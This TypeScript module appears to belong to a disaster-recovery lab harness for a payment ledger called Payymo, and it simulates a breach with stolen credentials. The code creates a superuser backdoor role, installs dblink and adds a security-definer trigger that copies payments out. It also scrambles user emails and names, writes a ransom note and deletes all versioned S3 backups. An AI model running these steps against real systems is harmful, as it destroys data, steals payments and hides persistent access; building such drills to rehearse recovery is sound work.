/**
 * Somebody is in: the host that Payymo is deployed from was taken over, and with it every password and key that lay there. They make
 * a way back for themselves, encrypt what they find, leave a note, and delete the backups that their keys reach.
 */
import { randomBytes } from 'node:crypto';
import {
  DeleteObjectsCommand,
  ListObjectVersionsCommand,
  type ObjectIdentifier,
  type S3Client,
} from '@aws-sdk/client-s3';
import pg from 'pg';
import { resolveSecret } from '../../src/secrets.js';
import { activeSite } from '../clusters.js';
import { layoutOf } from '../layout.js';
import { BACKUP_BUCKET, withStore } from '../parts/s3.js';
import { portOf } from '../ports.js';
import { newPassword, writeSecret } from '../secrets.js';
import type { LabState, LoginState } from '../state.js';
import { tlsFiles } from '../tls.js';
import { clock, loggedIn } from './login.js';

/** What the intruder did. Times are the database's clock, ISO 8601 UTC with microseconds. */
export interface Breach {
  /** Just before the first statement of the intruder: everything committed until here is good. */
  readonly startedAt: string;
  readonly finishedAt: string;
  /** The login that they made for themselves, a superuser; the password by reference. */
  readonly backdoor: LoginState;
  /** What they left in the database. */
  readonly left: readonly string[];
  readonly encryptedRows: number;
  readonly deletedObjects: number;
}

const ROLE = 'ledger_maintenance';

/**
 * @param state a lab that is up
 * @throws LabError when the database does not let the stolen login in
 */
export async function breakIn(state: LabState): Promise<Breach> {
  const layout = layoutOf(state.dir);
  const site = state.ledger.sites[await activeSite(layout)];
  const { database, admin, deploy } = state.ledger;
  const password = newPassword();
  const backdoor = {
    user: ROLE,
    password: await writeSecret(layout.secrets, 'stolen-backdoor-password', password),
  };
  const as = <T>(login: LoginState, work: (client: pg.Client) => Promise<T>): Promise<T> =>
    loggedIn({ ...site, database, login, statementTimeoutMs: 120_000 }, 'Nobody can break in', work);

  const startedAt = await as(admin, async (client) => {
    const since = await clock(client);
    await client.query(`create role ${ROLE} login superuser password ${pg.escapeLiteral(password)}`);
    return since;
  });
  // From here on they need the stolen passwords no more.
  const { finishedAt, encryptedRows } = await as(backdoor, async (client) => {
    await client.query(BACK_DOOR);
    const rows = await encrypt(client);
    await client.query(NOTE);
    return { finishedAt: await clock(client), encryptedRows: rows };
  });
  // The deploying login is theirs as well; it shows nothing that a deployment would not.
  await as(deploy, (client) => client.query('select count(*) from ledger.users'));
  return {
    startedAt,
    finishedAt,
    backdoor,
    left: LEFT,
    encryptedRows,
    deletedObjects: await deleteBackups(state),
  };
}

/** A function with its owner's rights, a trigger that carries every payment out, and an extension that opens other servers. */
const BACK_DOOR = `
create extension dblink;
create table ledger.settlement_cache (seq bigint, amount_cents bigint, memo text);
create function ledger.settle() returns trigger language plpgsql security definer as $$
begin
  insert into ledger.settlement_cache values (new.seq, new.amount_cents, new.memo);
  return new;
end $$;
create trigger settle after insert on ledger.transactions for each row execute function ledger.settle();
`;

const NOTE = `
create table public.read_me (note text);
insert into public.read_me values ('Your users are encrypted and your backups are gone. Wait for our message.');
`;

const LEFT = [
  `role ${ROLE}`,
  'extension dblink',
  'function ledger.settle()',
  'trigger ledger.transactions.settle',
  'table public.read_me',
] as const;

/** With a key that nobody has: bytes of chance in place of names and addresses. */
async function encrypt(client: pg.Client): Promise<number> {
  const { rows } = await client.query<{ id: string }>('select id from ledger.users order by id');
  const ids = rows.map(({ id }) => id);
  const cipher = () => ids.map(() => randomBytes(48).toString('base64'));
  const { rowCount } = await client.query(
    `update ledger.users as u set email = e.email, display_name = e.name, updated_at = now()
       from unnest($1::bigint[], $2::text[], $3::text[]) as e (id, email, name) where u.id = e.id`,
    [ids, cipher(), cipher()],
  );
  return rowCount ?? 0;
}

/** Their keys are those of the primary's own region; the copy in the other one they cannot reach. */
async function deleteBackups(state: LabState): Promise<number> {
  const layout = layoutOf(state.dir);
  const { endpoint, accessKeyId, secretAccessKey } = state.regions.west;
  const store = {
    region: 'west',
    ...{ folder: layout.s3.west, port: portOf(endpoint), tls: tlsFiles(layout.tls) },
    ...{ program: '', logFile: '' },
    accessKeyId: await resolveSecret(accessKeyId),
    secretAccessKey: await resolveSecret(secretAccessKey),
  } as const;
  return withStore(store, deleteAll);
}

async function deleteAll(client: S3Client): Promise<number> {
  let deleted = 0;
  for (;;) {
    const page = await client.send(new ListObjectVersionsCommand({ Bucket: BACKUP_BUCKET, MaxKeys: 1000 }));
    const objects = [...(page.Versions ?? []), ...(page.DeleteMarkers ?? [])].flatMap(
      ({ Key, VersionId }): ObjectIdentifier[] =>
        Key === undefined ? [] : [{ Key, ...(VersionId === undefined ? {} : { VersionId }) }],
    );
    if (objects.length === 0) return deleted;
    await client.send(new DeleteObjectsCommand({ Bucket: BACKUP_BUCKET, Delete: { Objects: objects } }));
    deleted += objects.length;
  }
}
